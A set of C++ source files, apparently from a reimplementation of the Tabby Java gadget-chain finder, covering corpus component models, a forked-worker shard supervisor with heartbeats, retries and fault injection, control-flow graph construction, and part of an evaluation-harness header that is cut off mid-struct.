#pragma once

#include <string>
#include <vector>

#include "corpus/groundtruth.hpp"
#include "jar/archive.hpp"
#include "jir/model.hpp"

namespace tabby::corpus {

struct Component {
  std::string name;  // Table IX row label
  jar::Archive jar;
  std::vector<GroundTruthChain> truths;
  std::vector<FakeStructure> fakes;
  /// The paper marks Serianalyzer "X" (non-terminating) on this component;
  /// the corpus plants the dense const maze that causes it.
  bool sl_explodes = false;

  std::size_t known_in_dataset() const {
    std::size_t n = 0;
    for (const auto& t : truths) n += t.known_in_dataset ? 1 : 0;
    return n;
  }

  /// jdk base + component jar, classpath-linked.
  jir::Program link() const;
};

/// Table IX row labels, in table order.
const std::vector<std::string>& component_names();

/// Builds one component model. Throws std::invalid_argument on unknown name.
Component build_component(const std::string& name);

}  // namespace tabby::corpus
