#include "dist/dist.hpp"

#include <poll.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <deque>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "obs/obs.hpp"
#include "serve/json.hpp"
#include "util/failpoint.hpp"
#include "util/rng.hpp"
#include "util/signals.hpp"

namespace tabby::dist {
namespace {

using Clock = std::chrono::steady_clock;

// ---------------------------------------------------------------------------
// Wire helpers. One JSON document per line, EINTR-safe, like serve.cpp's
// loops — but self-contained so tabby_dist does not pull in the daemon.
// ---------------------------------------------------------------------------

bool write_all_fd(int fd, const char* data, std::size_t size) {
  std::size_t done = 0;
  while (done < size) {
    ssize_t n = ::write(fd, data + done, size - done);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;  // EPIPE and friends: peer is gone
    }
    done += static_cast<std::size_t>(n);
  }
  return true;
}

bool write_line(int fd, const serve::Json& doc) {
  std::string line = doc.dump();
  line.push_back('\n');
  return write_all_fd(fd, line.data(), line.size());
}

/// Pops one complete line from `buffer` if present.
bool take_line(std::string& buffer, std::string& line) {
  std::size_t pos = buffer.find('\n');
  if (pos == std::string::npos) return false;
  line.assign(buffer, 0, pos);
  buffer.erase(0, pos + 1);
  return true;
}

// ---------------------------------------------------------------------------
// Worker process. Entered immediately after fork(); never returns — every
// exit is _exit() so no inherited destructor (thread pools, tracer buffers)
// runs in the child.
// ---------------------------------------------------------------------------

struct WorkerChannel {
  int fd = -1;
  std::mutex write_mutex;           // heartbeats interleave with results
  std::atomic<bool> busy{false};    // heartbeat only while executing a shard
  std::atomic<bool> silent{false};  // chaos hang: stop heartbeating too
};

void heartbeat_loop(WorkerChannel* channel, std::chrono::milliseconds interval) {
  serve::Json beat = serve::Json::object();
  beat.set("hb", true);
  const std::string line = beat.dump() + "\n";
  for (;;) {
    std::this_thread::sleep_for(interval);
    if (!channel->busy.load(std::memory_order_relaxed)) continue;
    if (channel->silent.load(std::memory_order_relaxed)) continue;
    std::lock_guard<std::mutex> lock(channel->write_mutex);
    if (!write_all_fd(channel->fd, line.data(), line.size())) _exit(0);
  }
}

[[noreturn]] void worker_main(int fd, const ShardFn& fn, const DistOptions& options) {
  // The tracer's worker threads did not survive the fork; recording into
  // their buffers would corrupt shared state. disable() is one relaxed
  // atomic store, safe even if another parent thread held tracer locks at
  // fork time.
  obs::Tracer::instance().disable();
  util::ignore_sigpipe();

  static WorkerChannel channel;
  channel.fd = fd;
  std::thread(heartbeat_loop, &channel, options.heartbeat_interval).detach();

  std::string buffer;
  std::string line;
  char chunk[4096];
  for (;;) {
    while (!take_line(buffer, line)) {
      ssize_t n = ::read(fd, chunk, sizeof chunk);
      if (n < 0) {
        if (errno == EINTR) continue;
        _exit(0);
      }
      if (n == 0) _exit(0);  // coordinator closed the pair: orderly shutdown
      buffer.append(chunk, static_cast<std::size_t>(n));
    }
    auto doc = serve::Json::parse(line);
    if (!doc || doc->str("op") != "shard") _exit(0);
    auto shard = static_cast<std::size_t>(doc->num("shard"));
    std::string chaos = doc->str("chaos");
    if (chaos == "crash") _exit(134);  // simulated wild-pointer death, no reply
    channel.busy.store(true, std::memory_order_relaxed);
    if (chaos == "hang") {
      // Simulated runaway: alive but silent. The coordinator's heartbeat
      // detector must SIGKILL us; sleeping forever is the point.
      channel.silent.store(true, std::memory_order_relaxed);
      for (;;) std::this_thread::sleep_for(std::chrono::hours(1));
    }
    serve::Json reply = serve::Json::object();
    reply.set("shard", static_cast<std::uint64_t>(shard));
    try {
      std::string payload = fn(shard);
      reply.set("ok", true);
      reply.set("payload", std::move(payload));
    } catch (const std::exception& e) {
      reply.set("ok", false);
      reply.set("error", std::string(e.what()));
    } catch (...) {
      reply.set("ok", false);
      reply.set("error", "unknown shard exception");
    }
    channel.busy.store(false, std::memory_order_relaxed);
    std::lock_guard<std::mutex> lock(channel.write_mutex);
    if (!write_line(fd, reply)) _exit(0);
  }
}

// ---------------------------------------------------------------------------
// Coordinator.
// ---------------------------------------------------------------------------

struct Worker {
  pid_t pid = -1;
  int fd = -1;
  bool alive = false;
  bool busy = false;
  std::size_t shard = 0;    // in-flight shard (busy only)
  int shard_attempts = 0;   // failures the in-flight shard had before this try
  Clock::time_point last_activity{};
  Clock::time_point dispatched_at{};
  std::string inbuf;
};

struct PendingShard {
  std::size_t shard = 0;
  int attempts = 0;    // failed tries so far
  int last_slot = -1;  // worker slot of the last failed try
  Clock::time_point not_before{};
};

class Coordinator {
 public:
  Coordinator(std::size_t shard_count, const ShardFn& fn, const DistOptions& options)
      : fn_(fn), options_(options), pool_size_(std::min<std::size_t>(
            static_cast<std::size_t>(std::max(options.workers, 1)), shard_count)) {
    report_.shards.resize(shard_count);
    Clock::time_point now = Clock::now();
    for (std::size_t i = 0; i < shard_count; ++i) pending_.push_back({i, 0, -1, now});
  }

  DistReport run() {
    obs::Span span("dist.run");
    span.attr("shards", static_cast<std::uint64_t>(report_.shards.size()));
    span.attr("workers", static_cast<std::uint64_t>(pool_size_));

    workers_.resize(pool_size_);
    for (std::size_t slot = 0; slot < pool_size_; ++slot) {
      if (spawn(slot)) ++report_.stats.workers_spawned;
    }

    while (resolved_ < report_.shards.size()) {
      if (alive_count() == 0 && !revive_pool()) {
        fail_everything_outstanding("no workers could be spawned");
        break;
      }
      dispatch_ready();
      wait_and_read();
      check_hangs();
    }

    shutdown_pool();
    emit_counters();
    return std::move(report_);
  }

 private:
  std::size_t alive_count() const {
    std::size_t n = 0;
    for (const Worker& w : workers_) n += w.alive ? 1 : 0;
    return n;
  }

  std::size_t unresolved() const { return report_.shards.size() - resolved_; }

  bool spawn(std::size_t slot) {
    int sv[2];
    if (::socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) return false;
    pid_t pid = ::fork();
    if (pid < 0) {
      ::close(sv[0]);
      ::close(sv[1]);
      return false;
    }
    if (pid == 0) {
      // Child: drop every coordinator-side descriptor (ours and those of
      // sibling workers forked earlier) so EOF detection works, then serve.
      ::close(sv[0]);
      for (const Worker& w : workers_) {
        if (w.fd >= 0) ::close(w.fd);
      }
      worker_main(sv[1], fn_, options_);  // never returns
    }
    ::close(sv[1]);
    Worker& w = workers_[slot];
    w = Worker{};
    w.pid = pid;
    w.fd = sv[0];
    w.alive = true;
    w.last_activity = Clock::now();
    return true;
  }

  /// All workers are dead mid-run; try to restore the pool. False when not
  /// a single replacement could be forked (the caller fails the run).
  bool revive_pool() {
    bool any = false;
    std::size_t want = std::min(pool_size_, unresolved());
    for (std::size_t slot = 0; slot < pool_size_ && alive_count() < want; ++slot) {
      if (!workers_[slot].alive && spawn(slot)) {
        ++report_.stats.respawns;
        any = true;
      }
    }
    return any;
  }

  /// One try of `shard` just failed (`attempts` = total failures so far).
  /// Requeues with backoff, or records the structured failure once the
  /// budget is exhausted.
  void shard_failed(std::size_t shard, int attempts, int slot, const std::string& why) {
    if (attempts >= options_.max_attempts) {
      ShardResult& r = report_.shards[shard];
      r.ok = false;
      r.error = why + " (" + std::to_string(attempts) + " attempts)";
      r.attempts = attempts;
      ++resolved_;
      return;
    }
    ++report_.stats.retries;
    pending_.push_back({shard, attempts, slot, Clock::now() + retry_backoff(options_, shard, attempts)});
  }

  /// Worker in `slot` is gone (crashed, killed, or its pipe broke). Reaps
  /// the corpse, fails/requeues its in-flight shard, and respawns a
  /// replacement while there is still work for it.
  void handle_death(std::size_t slot, const std::string& why) {
    Worker& w = workers_[slot];
    if (!w.alive) return;
    ++report_.stats.crashes;
    ::close(w.fd);
    w.fd = -1;
    w.alive = false;
    int status = 0;
    ::waitpid(w.pid, &status, 0);
    if (w.busy) {
      w.busy = false;
      shard_failed(w.shard, w.shard_attempts + 1, static_cast<int>(slot), why);
    }
    if (resolved_ < report_.shards.size() && alive_count() < std::min(pool_size_, unresolved())) {
      if (spawn(slot)) ++report_.stats.respawns;
    }
  }

  void fail_everything_outstanding(const std::string& why) {
    for (Worker& w : workers_) {
      if (w.alive && w.busy) {
        w.busy = false;
        shard_failed(w.shard, options_.max_attempts, -1, why);
      }
    }
    while (!pending_.empty()) {
      PendingShard p = pending_.front();
      pending_.pop_front();
      shard_failed(p.shard, options_.max_attempts, -1, why);
    }
  }

  /// Hands ready pending shards to idle workers. Chaos is decided HERE, in
  /// the coordinator, so `site*N` firing budgets count in one process; the
  /// instruction rides along in the dispatch document.
  void dispatch_ready() {
    Clock::time_point now = Clock::now();
    for (std::size_t slot = 0; slot < workers_.size(); ++slot) {
      Worker& w = workers_[slot];
      if (!w.alive || w.busy) continue;
      auto it = std::find_if(pending_.begin(), pending_.end(),
                             [&](const PendingShard& p) { return p.not_before <= now; });
      if (it == pending_.end()) continue;
      PendingShard p = *it;
      pending_.erase(it);
      if (util::failpoint::poll("dist.dispatch")) {
        // The dispatch itself failed (queue full, serialization error):
        // costs the shard an attempt but the worker is fine.
        shard_failed(p.shard, p.attempts + 1, static_cast<int>(slot), "dispatch failed (failpoint)");
        continue;
      }
      if (p.attempts > 0 && p.last_slot >= 0 && p.last_slot != static_cast<int>(slot)) {
        ++report_.stats.reassignments;
      }
      serve::Json msg = serve::Json::object();
      msg.set("op", "shard");
      msg.set("shard", static_cast<std::uint64_t>(p.shard));
      if (util::failpoint::poll(options_.crash_failpoint)) {
        msg.set("chaos", "crash");
      } else if (util::failpoint::poll(options_.hang_failpoint)) {
        msg.set("chaos", "hang");
      }
      w.busy = true;
      w.shard = p.shard;
      w.shard_attempts = p.attempts;
      w.dispatched_at = now;
      w.last_activity = now;
      if (!write_line(w.fd, msg)) handle_death(slot, "worker pipe broke at dispatch");
    }
  }

  /// Sleeps until something can happen (heartbeat, result, EOF, a backoff
  /// expiring, a hang deadline) and drains every readable worker pipe.
  void wait_and_read() {
    Clock::time_point now = Clock::now();
    auto timeout = std::chrono::milliseconds(50);
    for (const Worker& w : workers_) {
      if (!w.alive || !w.busy) continue;
      if (options_.hang_timeout.count() > 0) {
        auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
            w.last_activity + options_.hang_timeout - now);
        timeout = std::min(timeout, std::max(left, std::chrono::milliseconds(1)));
      }
      if (options_.shard_timeout.count() > 0) {
        auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
            w.dispatched_at + options_.shard_timeout - now);
        timeout = std::min(timeout, std::max(left, std::chrono::milliseconds(1)));
      }
    }
    for (const PendingShard& p : pending_) {
      auto left = std::chrono::duration_cast<std::chrono::milliseconds>(p.not_before - now);
      timeout = std::min(timeout, std::max(left, std::chrono::milliseconds(0)));
    }

    std::vector<pollfd> fds;
    std::vector<std::size_t> slots;
    for (std::size_t slot = 0; slot < workers_.size(); ++slot) {
      if (!workers_[slot].alive) continue;
      fds.push_back({workers_[slot].fd, POLLIN, 0});
      slots.push_back(slot);
    }
    if (fds.empty()) return;
    int rc = ::poll(fds.data(), fds.size(), static_cast<int>(timeout.count()));
    if (rc <= 0) return;  // timeout or EINTR: the outer loop re-checks state

    for (std::size_t i = 0; i < fds.size(); ++i) {
      if ((fds[i].revents & (POLLIN | POLLHUP | POLLERR)) == 0) continue;
      read_worker(slots[i]);
    }
  }

  void read_worker(std::size_t slot) {
    Worker& w = workers_[slot];
    char chunk[4096];
    ssize_t n;
    do {
      n = ::read(w.fd, chunk, sizeof chunk);
    } while (n < 0 && errno == EINTR);
    if (n > 0) w.inbuf.append(chunk, static_cast<std::size_t>(n));

    std::string line;
    while (w.alive && take_line(w.inbuf, line)) {
      auto doc = serve::Json::parse(line);
      if (!doc) continue;
      if (doc->flag("hb")) {
        w.last_activity = Clock::now();
        continue;
      }
      auto shard = static_cast<std::size_t>(doc->num("shard"));
      if (!w.busy || shard != w.shard) continue;  // stale reply from a pre-kill race
      w.busy = false;
      w.last_activity = Clock::now();
      if (doc->flag("ok")) {
        ShardResult& r = report_.shards[shard];
        r.ok = true;
        r.payload = doc->str("payload");
        r.attempts = w.shard_attempts + 1;
        ++resolved_;
      } else {
        // The ShardFn threw inside the worker: structured, retriable, and
        // the worker itself lives on.
        shard_failed(shard, w.shard_attempts + 1, static_cast<int>(slot),
                     "shard error: " + doc->str("error", "unknown"));
      }
    }
    if (n == 0) handle_death(slot, "worker crashed");
  }

  void check_hangs() {
    Clock::time_point now = Clock::now();
    for (std::size_t slot = 0; slot < workers_.size(); ++slot) {
      Worker& w = workers_[slot];
      if (!w.alive || !w.busy) continue;
      bool silent = options_.hang_timeout.count() > 0 &&
                    now - w.last_activity > options_.hang_timeout;
      bool overdue = options_.shard_timeout.count() > 0 &&
                     now - w.dispatched_at > options_.shard_timeout;
      if (!silent && !overdue) continue;
      ++report_.stats.heartbeat_misses;
      ::kill(w.pid, SIGKILL);
      handle_death(slot, silent ? "worker hung (heartbeats stopped)" : "shard deadline exceeded");
    }
  }

  void shutdown_pool() {
    serve::Json bye = serve::Json::object();
    bye.set("op", "exit");
    for (Worker& w : workers_) {
      if (!w.alive) continue;
      write_line(w.fd, bye);  // best effort; closing the fd is the real signal
      ::close(w.fd);
      w.fd = -1;
    }
    for (Worker& w : workers_) {
      if (!w.alive) continue;
      int status = 0;
      // Workers _exit on EOF almost instantly; SIGKILL is the backstop for
      // one wedged mid-write.
      for (int i = 0; i < 100; ++i) {
        pid_t got = ::waitpid(w.pid, &status, WNOHANG);
        if (got == w.pid || got < 0) {
          w.alive = false;
          break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
      }
      if (w.alive) {
        ::kill(w.pid, SIGKILL);
        ::waitpid(w.pid, &status, 0);
        w.alive = false;
      }
    }
  }

  void emit_counters() {
    const DistStats& s = report_.stats;
    if (s.workers_spawned) obs::counter_add("dist.workers_spawned", s.workers_spawned);
    if (s.respawns) obs::counter_add("dist.respawns", s.respawns);
    if (s.crashes) obs::counter_add("dist.crashes", s.crashes);
    if (s.retries) obs::counter_add("dist.retries", s.retries);
    if (s.reassignments) obs::counter_add("dist.reassignments", s.reassignments);
    if (s.heartbeat_misses) obs::counter_add("dist.heartbeat_misses", s.heartbeat_misses);
  }

  const ShardFn& fn_;
  const DistOptions& options_;
  std::size_t pool_size_;
  std::vector<Worker> workers_;
  std::deque<PendingShard> pending_;
  DistReport report_;
  std::size_t resolved_ = 0;
};

}  // namespace

std::chrono::microseconds retry_backoff(const DistOptions& options, std::size_t shard,
                                        int attempt) {
  int exponent = std::clamp(attempt - 1, 0, 20);
  auto base = static_cast<std::uint64_t>(std::max<std::int64_t>(options.backoff_base.count(), 1));
  std::uint64_t delay = base << exponent;
  util::Rng rng(options.backoff_seed ^ (static_cast<std::uint64_t>(shard) * 0x9E3779B97F4A7C15ULL) ^
                (static_cast<std::uint64_t>(static_cast<unsigned>(attempt)) << 32));
  return std::chrono::microseconds(delay + rng.next_below(delay / 2 + 1));
}

DistReport run_shards(std::size_t shard_count, const ShardFn& fn, const DistOptions& options) {
  DistReport report;
  report.shards.resize(shard_count);
  if (shard_count == 0) return report;
  if (options.workers <= 0) {
    // Degenerate in-process mode, used by tests; production callers branch
    // to the historical serial/threaded path before reaching here.
    for (std::size_t i = 0; i < shard_count; ++i) {
      ShardResult& r = report.shards[i];
      r.attempts = 1;
      try {
        r.payload = fn(i);
        r.ok = true;
      } catch (const std::exception& e) {
        r.error = e.what();
      } catch (...) {
        r.error = "unknown shard exception";
      }
    }
    return report;
  }
  util::ignore_sigpipe();
  Coordinator coordinator(shard_count, fn, options);
  return coordinator.run();
}

}  // namespace tabby::dist
