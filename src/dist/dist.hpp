// Supervised multi-process shard execution (docs/ROBUSTNESS.md, "Process
// isolation & supervision") — the coordinator/worker substrate behind
// `--workers N`.
//
// One coordinator forks a pool of worker processes and dispatches numbered
// shards to them over per-worker socketpairs, speaking the same
// newline-delimited JSON framing as the `tabby serve` wire protocol
// (serve::Json). Workers are forked, not exec'd: each child inherits the
// coordinator's address space copy-on-write — including the frozen CSR
// frame, which stays a single read-only mmap shared by every worker — runs
// the user-supplied ShardFn for each assigned shard, and streams the result
// back as one JSON line.
//
// The coordinator owns the robustness contract:
//   - crash isolation: a worker that dies (wild pointer, OOM kill, abort)
//     takes only its in-flight shard with it; the coordinator reaps the
//     corpse, respawns a replacement, and retries the shard;
//   - hang detection: workers heartbeat while executing a shard; a worker
//     that stops heartbeating for `hang_timeout` (or blows through
//     `shard_timeout` wall clock on one shard) is SIGKILLed and treated as
//     crashed;
//   - bounded retry: each shard gets `max_attempts` tries with exponential
//     backoff and DETERMINISTIC seeded jitter between them (chaos runs
//     replay identically), reassigned to whichever worker is free — the
//     retry of a dead worker's shard usually lands on a survivor;
//   - structured failure: a shard that exhausts its attempts is reported as
//     a failed ShardResult with a rendered error, never an exception — the
//     caller (the finder) degrades it to a PartialSink{WorkerFailure}.
//
// Results are keyed by shard index, so callers merge in shard order and the
// output is byte-identical to in-process execution at any worker count and
// under any injected failure that retries absorb.
//
// Failpoints (all polled in the COORDINATOR, so `*N` budgets are counted in
// one process): dist.worker.crash (the dispatched worker dies abruptly
// mid-shard), dist.worker.hang (the dispatched worker goes silent —
// exercises heartbeat-miss detection), dist.dispatch (the dispatch itself
// fails — exercises the retry path without killing anyone).
#pragma once

#include <chrono>
#include <cstdint>
#include <functional>
#include <string>
#include <vector>

namespace tabby::dist {

/// Coordinator/worker tuning. The zero-workers default means "do not use
/// dist at all" — callers check `workers > 0` before calling run_shards.
struct DistOptions {
  /// Worker processes to fork (capped at the shard count). 0 = in-process
  /// execution, the caller's historical behavior.
  int workers = 0;
  /// Attempts per shard (first try + retries). A shard failing this many
  /// times is reported failed, not retried forever.
  int max_attempts = 3;
  /// How often a busy worker heartbeats.
  std::chrono::milliseconds heartbeat_interval{25};
  /// A busy worker silent (no heartbeat, no result) for this long is
  /// declared hung and SIGKILLed. 0 disables heartbeat-miss detection.
  std::chrono::milliseconds hang_timeout{2000};
  /// Per-shard wall-clock ceiling: one dispatch older than this is killed
  /// even if heartbeats keep arriving (a runaway search loop heartbeats
  /// happily forever). 0 disables the ceiling — the cooperative finder
  /// deadline inside the shard remains the primary time governor.
  std::chrono::milliseconds shard_timeout{0};
  /// Base of the exponential retry backoff (attempt n sleeps roughly
  /// base * 2^(n-1) plus jitter).
  std::chrono::microseconds backoff_base{1000};
  /// Seed for the deterministic backoff jitter. Fixed default so identical
  /// runs — including chaos replays — sleep identically.
  std::uint64_t backoff_seed = 0x7ab1d157u;
  /// Failpoint sites the coordinator polls at dispatch to inject worker
  /// chaos. Callers running a different workload substitute their own sites
  /// (the verify stage uses runtime.verify.*) so a `site*N` budget targets
  /// the intended stage only. Must be string literals (static storage).
  const char* crash_failpoint = "dist.worker.crash";
  const char* hang_failpoint = "dist.worker.hang";
};

/// Outcome of one shard, indexed by shard number in DistReport::shards.
struct ShardResult {
  bool ok = false;
  /// The ShardFn's return value, verbatim (ok only).
  std::string payload;
  /// Rendered failure after retry exhaustion (!ok only).
  std::string error;
  /// Dispatch attempts consumed (1 = clean first try).
  int attempts = 0;
};

/// Supervision telemetry for one run_shards call (mirrored into dist.*
/// counters and the engine's per-process aggregates).
struct DistStats {
  std::uint64_t workers_spawned = 0;   // initial forks
  std::uint64_t respawns = 0;          // replacement forks after a death
  std::uint64_t crashes = 0;           // worker deaths observed (incl. kills)
  std::uint64_t retries = 0;           // shard re-dispatches
  std::uint64_t reassignments = 0;     // retries that landed on a different worker
  std::uint64_t heartbeat_misses = 0;  // hang detections (silence or shard timeout)

  bool any() const {
    return workers_spawned + respawns + crashes + retries + reassignments + heartbeat_misses > 0;
  }
};

struct DistReport {
  /// One entry per shard, index == shard number.
  std::vector<ShardResult> shards;
  DistStats stats;
};

/// The per-shard work, executed INSIDE a forked worker process. Must be
/// effectively const over inherited state (the finder's searches are), and
/// must not touch thread pools or other machinery whose threads did not
/// survive the fork. An exception escaping the function fails the shard
/// (structured, retriable) without killing the worker.
using ShardFn = std::function<std::string(std::size_t shard)>;

/// Runs `shard_count` shards across a supervised pool of forked workers.
/// Blocks until every shard has either a payload or an exhausted-retries
/// error; never throws for worker failures and never leaks children. With
/// `options.workers <= 0` this degenerates to running every shard in-process
/// (no forks) — callers normally branch earlier for that case.
DistReport run_shards(std::size_t shard_count, const ShardFn& fn, const DistOptions& options);

/// The deterministic backoff-before-retry delay for `shard`'s attempt
/// number `attempt` (1-based, the attempt that just failed): exponential in
/// the attempt with seeded jitter. Exposed for tests — identical inputs
/// yield identical delays on every platform.
std::chrono::microseconds retry_backoff(const DistOptions& options, std::size_t shard,
                                        int attempt);

}  // namespace tabby::dist
