#include "cfg/cfg.hpp"

#include <algorithm>
#include <unordered_map>

#include "util/thread_pool.hpp"

namespace tabby::cfg {

namespace {

bool is_branch(const jir::Stmt& stmt) {
  return std::holds_alternative<jir::IfStmt>(stmt) || std::holds_alternative<jir::GotoStmt>(stmt) ||
         std::holds_alternative<jir::ReturnStmt>(stmt) ||
         std::holds_alternative<jir::ThrowStmt>(stmt);
}

bool is_terminator(const jir::Stmt& stmt) {
  return std::holds_alternative<jir::GotoStmt>(stmt) ||
         std::holds_alternative<jir::ReturnStmt>(stmt) ||
         std::holds_alternative<jir::ThrowStmt>(stmt);
}

}  // namespace

ControlFlowGraph::ControlFlowGraph(const jir::Method& method) : method_(&method) {
  const std::vector<jir::Stmt>& body = method.body;
  if (body.empty()) return;

  // Label name -> statement index, for branch target resolution.
  std::unordered_map<std::string, std::size_t> label_at;
  for (std::size_t i = 0; i < body.size(); ++i) {
    if (const auto* label = std::get_if<jir::LabelStmt>(&body[i])) label_at[label->name] = i;
  }

  // Leaders: stmt 0, every label, every statement after a branch.
  std::vector<bool> leader(body.size(), false);
  leader[0] = true;
  for (std::size_t i = 0; i < body.size(); ++i) {
    if (std::holds_alternative<jir::LabelStmt>(body[i])) leader[i] = true;
    if (is_branch(body[i]) && i + 1 < body.size()) leader[i + 1] = true;
  }

  std::unordered_map<std::size_t, BlockId> block_at;  // leader stmt index -> block id
  for (std::size_t i = 0; i < body.size(); ++i) {
    if (!leader[i]) continue;
    BasicBlock block;
    block.id = static_cast<BlockId>(blocks_.size());
    block.first = i;
    std::size_t j = i + 1;
    while (j < body.size() && !leader[j]) ++j;
    block.last = j;
    block_at[i] = block.id;
    blocks_.push_back(block);
  }

  auto link = [&](BlockId from, BlockId to) {
    blocks_[from].successors.push_back(to);
    blocks_[to].predecessors.push_back(from);
  };

  for (BasicBlock& block : blocks_) {
    const jir::Stmt& last = body[block.last - 1];
    if (const auto* go = std::get_if<jir::GotoStmt>(&last)) {
      auto it = label_at.find(go->target_label);
      if (it != label_at.end()) link(block.id, block_at.at(it->second));
      continue;
    }
    if (const auto* branch = std::get_if<jir::IfStmt>(&last)) {
      auto it = label_at.find(branch->target_label);
      if (it != label_at.end()) link(block.id, block_at.at(it->second));
      // fallthrough edge as well
      if (block.last < body.size()) link(block.id, block_at.at(block.last));
      continue;
    }
    if (is_terminator(last)) continue;  // return/throw: no successors
    if (block.last < body.size()) link(block.id, block_at.at(block.last));
  }
}

std::vector<BlockId> ControlFlowGraph::reverse_post_order() const {
  std::vector<BlockId> order;
  if (blocks_.empty()) return order;
  std::vector<std::uint8_t> state(blocks_.size(), 0);  // 0 new, 1 open, 2 done
  // Iterative post-order DFS.
  std::vector<std::pair<BlockId, std::size_t>> stack{{0, 0}};
  state[0] = 1;
  while (!stack.empty()) {
    auto& [block, next] = stack.back();
    if (next < blocks_[block].successors.size()) {
      BlockId succ = blocks_[block].successors[next++];
      if (state[succ] == 0) {
        state[succ] = 1;
        stack.emplace_back(succ, 0);
      }
    } else {
      state[block] = 2;
      order.push_back(block);
      stack.pop_back();
    }
  }
  std::reverse(order.begin(), order.end());
  return order;
}

std::vector<bool> ControlFlowGraph::reachable() const {
  std::vector<bool> seen(blocks_.size(), false);
  for (BlockId id : reverse_post_order()) seen[id] = true;
  return seen;
}

bool ControlFlowGraph::is_conditional(BlockId block) const {
  if (block == entry()) return false;
  // A block is conditionally executed if some reachable block with >1
  // successors dominates a path around it. Cheap approximation sufficient for
  // characterisation tests: the block has a predecessor ending in an if.
  for (BlockId pred : blocks_[block].predecessors) {
    const jir::Stmt& last = method_->body[blocks_[pred].last - 1];
    if (std::holds_alternative<jir::IfStmt>(last)) return true;
  }
  return false;
}

std::vector<std::optional<ControlFlowGraph>> build_graphs(const jir::Program& program,
                                                          util::Executor* executor) {
  std::vector<jir::MethodId> methods = program.all_methods();
  std::vector<std::optional<ControlFlowGraph>> graphs(methods.size());
  util::run_indexed(executor, methods.size(), [&](std::size_t i) {
    const jir::Method& m = program.method(methods[i]);
    if (m.has_body()) graphs[i].emplace(m);
  });
  return graphs;
}

std::string ControlFlowGraph::to_string() const {
  std::string out;
  for (const BasicBlock& block : blocks_) {
    out += "B" + std::to_string(block.id) + " [" + std::to_string(block.first) + "," +
           std::to_string(block.last) + ") ->";
    for (BlockId succ : block.successors) out += " B" + std::to_string(succ);
    out += "\n";
  }
  return out;
}

}  // namespace tabby::cfg
