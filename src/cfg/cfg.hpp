// Per-method control-flow graphs, playing Soot's role in §III-B1: "Soot
// generates a corresponding control flow graph for each method". Statements
// are grouped into basic blocks; the controllability analysis (Algorithm 1)
// walks blocks in reverse post-order and merges facts at joins, which is what
// makes conditional execution visible to it.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "jir/model.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::cfg {

using BlockId = std::uint32_t;
inline constexpr BlockId kNoBlock = UINT32_MAX;

struct BasicBlock {
  BlockId id = 0;
  /// Statement index range [first, last) into the method body.
  std::size_t first = 0;
  std::size_t last = 0;
  std::vector<BlockId> successors;
  std::vector<BlockId> predecessors;

  std::size_t size() const { return last - first; }
};

/// CFG over a borrowed method body. The method must outlive the graph.
class ControlFlowGraph {
 public:
  /// Builds the CFG. Leaders are: the first statement, every label, and every
  /// statement following a branch (if/goto/return/throw).
  explicit ControlFlowGraph(const jir::Method& method);

  const jir::Method& method() const { return *method_; }
  const std::vector<BasicBlock>& blocks() const { return blocks_; }
  BlockId entry() const { return blocks_.empty() ? kNoBlock : 0; }

  const jir::Stmt& stmt(std::size_t index) const { return method_->body[index]; }

  /// Block ids in reverse post-order from the entry (the fixpoint iteration
  /// order of the controllability analysis).
  std::vector<BlockId> reverse_post_order() const;

  /// Blocks reachable from the entry.
  std::vector<bool> reachable() const;

  /// True if some path through the CFG can bypass `block` (i.e. the block is
  /// conditionally executed). Used by tests characterising the paper's
  /// false-positive source.
  bool is_conditional(BlockId block) const;

  std::string to_string() const;

 private:
  const jir::Method* method_;
  std::vector<BasicBlock> blocks_;
};

/// Builds the CFG of every method, indexed like Program::all_methods().
/// Bodyless (abstract/native) methods yield nullopt. Construction is
/// independent per method, so with an executor the loop fans out across
/// workers; the result is identical either way (each CFG is a pure function
/// of its method body). The Program must outlive the returned graphs.
std::vector<std::optional<ControlFlowGraph>> build_graphs(const jir::Program& program,
                                                          util::Executor* executor = nullptr);

}  // namespace tabby::cfg
