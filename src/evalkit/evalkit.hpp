// The experiment harness: runs a tool on a linked program, matches reported
// chains against the corpus ground truth (Known / Unknown / Fake), computes
// FPR and FNR exactly as Formulas 5 and 6 define them, and verifies ground
// truth with the runtime VM (the automated PoC step).
#pragma once

#include <string>
#include <vector>

#include "corpus/components.hpp"
#include "corpus/scenes.hpp"
#include "finder/finder.hpp"

namespace tabby::evalkit {

enum class Tool { Tabby, GadgetInspector, Serianalyzer };

std::string_view tool_name(Tool tool);

struct ToolRun {
  std::vector<finder::GadgetChain> chains;
  bool exploded = false;  // Serianalyzer "X"
  double seconds = 0.0;
};

/// Runs the named tool end to end (CPG construction + search) on a linked
/// program. `package_filter` is applied to Serianalyzer output only, the way
/// the paper filters its raw chains.
ToolRun run_tool(Tool tool, const jir::Program& program,
                 const std::string& package_filter = "");

struct Classification {
  std::size_t result = 0;
  std::size_t fake = 0;
  std::size_t known = 0;
  std::size_t unknown = 0;
};

/// Matches reported chains to ground truth by source + sink signature (and
/// witnesses, when a truth lists them). Each truth counts at most once;
/// unmatched reports are Fake.
Classification classify(const std::vector<finder::GadgetChain>& chains,
                        const std::vector<corpus::GroundTruthChain>& truths);

/// Formula 5: fake / result * 100. Result 0 => 0 when nothing was expected,
/// else 100 (the paper's convention for empty-output rows with misses).
double fpr_percent(const Classification& c);

/// Formula 6: (known_in_dataset - known_found) / known_in_dataset * 100.
double fnr_percent(const Classification& c, std::size_t known_in_dataset);

// --- Table IX ---------------------------------------------------------------

struct ComparisonRow {
  std::string component;
  std::size_t known_in_dataset = 0;
  struct PerTool {
    std::size_t result = 0, fake = 0, known = 0, unknown = 0;
    double fpr = 0.0, fnr = 0.0, seconds = 0.0;
    bool exploded = false;
  };
  PerTool gi, tb, sl;
};

/// Runs all three tools on one component model.
ComparisonRow evaluate_component(const corpus::Component& component);

// --- Table X ----------------------------------------------------------------

struct SceneRow {
  std::string scene;
